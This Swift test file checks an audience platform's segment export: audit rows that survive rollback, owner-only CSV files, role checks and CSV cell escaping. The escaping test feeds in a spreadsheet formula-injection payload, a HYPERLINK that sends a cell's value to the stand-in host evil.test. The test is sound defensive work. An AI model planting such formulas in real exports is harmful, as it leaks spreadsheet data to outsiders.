// Segment exports with contact details against a real server (issue 14, item 3): the audit
// row is committed before any row leaves, and a rollback cannot erase it.
import Foundation
import Loading
import PostgresClient
import TestSupport
import Testing

@Suite("export audit")
struct ExportAuditTests {
  /// A migrated database with the contract fixture of aud-berlin (tests.audience_orgs and
  /// tests.audience_recent_fixture): the "Buyers" segment matches C1, C3, C4, C5 once C2 has
  /// opted out; C1 has the active e-mail c1@example.com.
  func fixture() throws -> (TestDatabase, segment: UUID, admin: UUID) {
    let db = try migratedDatabase()
    let connection = try db.connect()
    let support = TestEnvironment.packageRoot.appendingPathComponent("Tests/Contracts/_support")
    for name in try FileManager.default.contentsOfDirectory(atPath: support.path).sorted() where name.hasSuffix(".sql") {
      try connection.runScript(try String(contentsOf: support.appendingPathComponent(name), encoding: .utf8))
    }
    try connection.runScript(
      """
      select tests.audience_orgs();
      select tests.audience_recent_fixture(md5('org:aud-berlin')::uuid);
      select audience.update_customers(md5('org:aud-berlin')::uuid);
      insert into audience.subscribers (org_id, channel, contact, visitor_id) values
        (md5('org:aud-berlin')::uuid, 'email', 'c1@example.com', 'C1');
      insert into audience.opt_outs (org_id, visitor_id) values (md5('org:aud-berlin')::uuid, 'C2');
      """)
    let segment = try #require(
      try connection.scalar(
        """
        select segment_id from public.create_segment(md5('org:aud-berlin')::uuid, 'Buyers',
                                                     '[{"field": "orders_count", "op": "gte", "value": 1}]')
        """, as: UUID.self))
    let admin = try #require(try connection.scalar("select tests.audience_user('admin')", as: UUID.self))
    return (db, segment, admin)
  }

  func audits(_ db: TestDatabase) throws -> Int {
    try db.connect().scalar("select count(*)::int from audience.segment_exports where include_pii", as: Int.self) ?? -1
  }

  @Test("a fetch inside the requesting transaction is refused, and its rollback leaves nothing behind")
  func uncommittedRequestIsRefused() async throws {
    // Long and blocking: on a thread of its own, not one of the cooperative threads.
    try await blocking { try Self().uncommittedRequestIsRefusedBody() }
  }

  func uncommittedRequestIsRefusedBody() throws {
    let (db, segment, admin) = try fixture()
    let connection = try db.connect()
    try connection.execute("begin")
    try connection.execute("select tests.authenticate_as(\(admin))")
    let export = try #require(
      try connection.scalar("select export_id from public.request_segment_export(\(segment), true, 'Presale e-mail')", as: Int.self))
    do {
      _ = try connection.query("select email from public.fetch_segment_export(\(export))")
      Issue.record("the fetch answered rows for an uncommitted request")
    } catch let error as PostgresError {
      #expect(error.code.rawValue == "55000")
      #expect(error.message == "segment export \(export) is not committed yet: its rows are answered only after the transaction that requested it commits")
    }
    try connection.execute("rollback")
    #expect(try audits(db) == 0)
  }

  @Test("a committed request survives the rollback of the transaction that fetched the e-mail addresses")
  func auditSurvivesRollback() async throws {
    // Long and blocking: on a thread of its own, not one of the cooperative threads.
    try await blocking { try Self().auditSurvivesRollbackBody() }
  }

  func auditSurvivesRollbackBody() throws {
    let (db, segment, admin) = try fixture()
    let connection = try db.connect()
    let export = try connection.transaction {
      try connection.execute("select tests.authenticate_as(\(admin))")
      return try #require(
        try connection.scalar("select export_id from public.request_segment_export(\(segment), true, 'Presale e-mail')", as: Int.self))
    }
    try connection.execute("begin")
    try connection.execute("select tests.authenticate_as(\(admin))")
    let rows = try connection.query("select visitor_id, email from public.fetch_segment_export(\(export))")
    try connection.execute("rollback")
    #expect(rows.cells == [["C1", "c1@example.com"], ["C3", nil], ["C4", nil], ["C5", nil]])
    let audit = try db.connect().query(
      "select exported_by::text, row_count, include_pii, purpose from audience.segment_exports where id = \(export)")
    #expect(audit.cells == [[admin.uuidString.lowercased(), "4", "t", "Presale e-mail"]])
  }

  @Test("audiencectl segment export commits the audit row, then writes the CSV")
  func commandLine() async throws {
    // Long and blocking: on a thread of its own, not one of the cooperative threads.
    try await blocking { try Self().commandLineBody() }
  }

  func commandLineBody() throws {
    let (db, segment, admin) = try fixture()
    let result = try audiencectl([
      "segment", "export", "--url", db.url, "--project", TestEnvironment.packageRoot.path,
      "--segment", segment.uuidString, "--pii", "--purpose", "Presale e-mail",
    ])
    #expect(result.status == 0, "\(result.stderr)")
    let lines = result.stdout.components(separatedBy: "\r\n")
    #expect(lines.first?.hasPrefix("visitor_id,user_id,lifecycle_stage,") == true)
    #expect(lines.first?.hasSuffix(",email,phone") == true)
    #expect(lines.count == 6)  // header, 4 customers, the empty string after the last CRLF
    #expect(lines[1].hasPrefix("C1,") && lines[1].hasSuffix(",c1@example.com,"))
    #expect(result.stderr.hasSuffix(": 4 customers\n"))
    let audit = try db.connect().query(
      "select exported_by::text, row_count, include_pii, purpose from audience.segment_exports where segment_id = \(segment)")
    #expect(audit.cells == [[nil, "4", "t", "Presale e-mail"]])

    // --out: the file holds e-mail addresses, so it is its owner's only (0600), also when
    // it existed before with a looser mode.
    let dir = FileManager.default.temporaryDirectory.appendingPathComponent("segment-export-\(UUID().uuidString)")
    try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(at: dir) }
    let out = dir.appendingPathComponent("buyers.csv").path
    #expect(FileManager.default.createFile(atPath: out, contents: Data("old".utf8), attributes: [.posixPermissions: 0o644]))
    let written = try audiencectl([
      "segment", "export", "--url", db.url, "--project", TestEnvironment.packageRoot.path,
      "--segment", segment.uuidString, "--pii", "--purpose", "Presale e-mail", "--out", out,
    ])
    #expect(written.status == 0, "\(written.stderr)")
    #expect(try String(contentsOfFile: out, encoding: .utf8) == result.stdout)
    let mode = try FileManager.default.attributesOfItem(atPath: out)[.posixPermissions] as? Int
    #expect(mode == 0o600)

    // --as: the export acts as that user, whose role is checked and whom the audit row names.
    let asAdmin = try audiencectl([
      "segment", "export", "--url", db.url, "--project", TestEnvironment.packageRoot.path,
      "--segment", segment.uuidString, "--pii", "--purpose", "Presale by the admin", "--as", admin.uuidString,
    ])
    #expect(asAdmin.status == 0, "\(asAdmin.stderr)")
    #expect(try db.connect().scalar(
      "select exported_by from audience.segment_exports where purpose = 'Presale by the admin'", as: UUID.self) == admin)
    let stranger = UUID()
    let refused = try audiencectl([
      "segment", "export", "--url", db.url, "--project", TestEnvironment.packageRoot.path,
      "--segment", segment.uuidString, "--pii", "--purpose", "Presale by a stranger", "--as", stranger.uuidString,
    ])
    #expect(refused.status == 1)
    #expect(refused.stderr.contains("42501"), "\(refused.stderr)")
    #expect(try db.connect().scalar(
      "select count(*)::int from audience.segment_exports where purpose = 'Presale by a stranger'", as: Int.self) == 0)
  }

  @Test("the CSV quotes separators and line breaks, and defuses what a spreadsheet would run as a formula")
  func csvCells() {
    let result = SegmentExportResult(
      exportID: 1, columns: ["visitor_id", "name", "score"],
      rows: [
        ["=HYPERLINK(\"http://evil.test/?x=\"&A1,\"x\")", "+1+1", "-5"],
        ["@SUM(1,2)", "\tx", "-0.25"],
        ["a,b", "line\r\nbreak", nil],
        ["-", "=", "+3"],
      ])
    #expect(result.csv == [
      "visitor_id,name,score",
      "\"'=HYPERLINK(\"\"http://evil.test/?x=\"\"&A1,\"\"x\"\")\",'+1+1,-5",
      "\"'@SUM(1,2)\",\"'\tx\",-0.25",
      "\"a,b\",\"line\r\nbreak\",",
      "'-,'=,+3",
    ].map { $0 + "\r\n" }.joined())
  }
}
